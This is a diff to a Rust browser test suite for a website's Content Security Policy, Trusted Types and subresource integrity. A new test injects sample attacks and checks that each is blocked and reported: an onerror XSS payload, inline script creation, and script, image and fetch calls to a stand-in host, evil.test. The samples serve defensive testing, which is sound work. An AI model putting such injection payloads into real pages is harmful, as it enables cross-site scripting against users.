@@ -44,6 +44,11 @@ const REMEMBER: &str = "document.addEventListener('readystatechange', () => {
     if (document.readyState === 'interactive') { window.asSent = document.body.innerHTML; }
 });";
 
+/// Remembers what the content policy and Trusted Types refused, from before the page's first script on.
+const REFUSED: &str = "window.refused = [];
+document.addEventListener('securitypolicyviolation', event =>
+    window.refused.push(event.effectiveDirective + ' ' + event.blockedURI + ' ' + event.sample));";
+
 /// The words as sent and as they stand, without what is made for the browser only: the map, the reader's own zone, and
 /// lists of things shown on it.
 const WORDS: &str = "
@@ -61,7 +66,9 @@ const WORDS: &str = "
 async fn hydration_changes_no_word_logs_nothing_and_asks_nobody_else() {
     let running = Running::start().await;
     let browser = Browser::open(&running).await;
-    browser.devtools("Page.addScriptToEvaluateOnNewDocument", json!({"source": REMEMBER})).await;
+    for source in [REMEMBER, REFUSED] {
+        browser.devtools("Page.addScriptToEvaluateOnNewDocument", json!({"source": source})).await;
+    }
     let pages = public_pages(&running).await;
     browser.requests().await;
     let mut wrong = Vec::new();
@@ -70,6 +77,9 @@ async fn hydration_changes_no_word_logs_nothing_and_asks_nobody_else() {
         let words = browser.eval(WORDS).await;
         if words[0] != words[1] {
             wrong.push(format!("{path} says something else: {}", first_difference(&words)));
+        }
+        for refused in refused(&browser).await {
+            wrong.push(format!("{path} tries what its policy refuses: {refused}"));
         }
         for error in browser.console_errors().await {
             // Chromium notes a page's own 404 as an error.
@@ -84,6 +94,43 @@ async fn hydration_changes_no_word_logs_nothing_and_asks_nobody_else() {
         }
     }
     assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+    browser.close().await;
+}
+
+/// What the policy refused on this page.
+async fn refused(browser: &Browser) -> Vec<String> {
+    let refused = browser.eval("return window.refused").await;
+    let refused = refused.as_array().expect("the page was opened with the listener in place");
+    refused.iter().filter_map(Value::as_str).map(str::to_owned).collect()
+}
+
+/// Markup and scripts as somebody would slip them in, and the directive that keeps each out.
+const SLIPPED_IN: [(&str, &str); 6] = [
+    (
+        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>')",
+        "require-trusted-types-for",
+    ),
+    ("document.createElement('script').text = 'alert(1)'", "require-trusted-types-for"),
+    ("document.createElement('script').src = 'https://evil.test/a.js'", "require-trusted-types-for"),
+    ("trustedTypes.createPolicy('mine', {createHTML: text => text})", "trusted-types"),
+    ("document.body.appendChild(new Image()).src = 'https://evil.test/pixel.gif'", "img-src"),
+    ("fetch('https://evil.test/').catch(() => {})", "connect-src"),
+];
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_is_slipped_into_a_page_does_nothing_and_is_noticed() {
+    let running = Running::start().await;
+    let browser = Browser::open(&running).await;
+    browser.devtools("Page.addScriptToEvaluateOnNewDocument", json!({"source": REFUSED})).await;
+    for (script, directive) in SLIPPED_IN {
+        browser.visit("/privacy").await;
+        assert_eq!(refused(&browser).await, Vec::<String>::new(), "before {script}");
+        browser.eval(&format!("try {{ {script} }} catch (error) {{}}")).await;
+        browser.is_true("return window.refused.length > 0").await;
+        let found = refused(&browser).await;
+        assert!(found.iter().all(|refused| refused.starts_with(directive)), "{script}: {found:?}");
+        assert!(!browser.console_errors().await.is_empty(), "the console says nothing of {script}");
+    }
     browser.close().await;
 }
 
@@ -112,6 +159,8 @@ async fn pages_carry_their_policy_and_answer_as_they_should() {
             "base-uri 'none'",
             "form-action 'self'",
             "frame-ancestors 'none'",
+            "object-src 'none'",
+            "require-trusted-types-for 'script'; trusted-types default",
         ] {
             assert!(policy.contains(part), "{path}: {part} in {policy}");
         }
@@ -119,6 +168,10 @@ async fn pages_carry_their_policy_and_answer_as_they_should() {
         assert_eq!(page.header("referrer-policy"), "same-origin", "{path}");
         assert_eq!(page.header("x-content-type-options"), "nosniff", "{path}");
         assert!(!page.body.contains(" style=\""), "{path} has an inline style");
+        let sealed = page.body.matches(" integrity=\"sha384-").count();
+        let ours = ["<script defer src=\"/", "rel=\"stylesheet\"", "rel=\"modulepreload\""];
+        let ours: usize = ours.iter().map(|tag| page.body.matches(tag).count()).sum();
+        assert!(sealed >= 4 && sealed == ours, "{path}: {sealed} of {ours} files are sealed");
         let private = path.starts_with("/book/") || path.starts_with("/manage/");
         let caching = if private { "no-store" } else { "public, max-age=0, must-revalidate" };
         assert_eq!(page.header("cache-control"), caching, "{path}");
